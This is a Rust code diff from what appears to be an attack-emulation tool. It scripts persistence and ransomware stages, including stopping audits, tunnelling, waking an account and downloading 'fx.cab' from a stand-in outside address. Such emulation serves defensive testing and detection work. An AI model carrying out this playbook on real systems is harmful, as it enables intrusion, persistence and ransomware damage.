@@ -142,10 +142,11 @@ fn stay(attack: &mut Attack<'_>, habits: &'static Habits, page: &Page) {
     lay(attack, path, text, Technique::Tunnel, "the settings of a tool that carries connections outside");
     attack.send(page, tunnel, keys);
     then(attack, page, keys, audit, |attack| attack.stop_audit());
-    let [service, job, account, module] = &spies::STAY;
+    let [service, job, account, group, module] = &spies::STAY;
     attack.send(page, service, keys);
     then(attack, page, keys, job, |attack| attack.transfer("fxsync", "http://203.0.113.77/fx.cab"));
     then(attack, page, keys, account, |attack| attack.wake_account(after.account, 503));
+    attack.send(page, group, keys);
     then(attack, page, keys, module, |attack| attack.module(after.module));
     attack.services(after.services);
     attack.registry(after.registry);
@@ -180,7 +181,7 @@ pub(super) fn ransom(server: &mut Server, habits: &'static Habits) {
     attack.exclude(lock::FOLDER);
     let [fetch, care, products, copies, services] = lock::PREPARE;
     attack.scripts(&[fetch]);
-    attack.leave(&lock::LEFT);
+    attack.leave_weighed(&lock::LEFT, Weight::Supporting);
     attack.scripts(&[care]);
     attack.services(lock::SERVICES.get(..1).unwrap_or_default());
     attack.account("help");
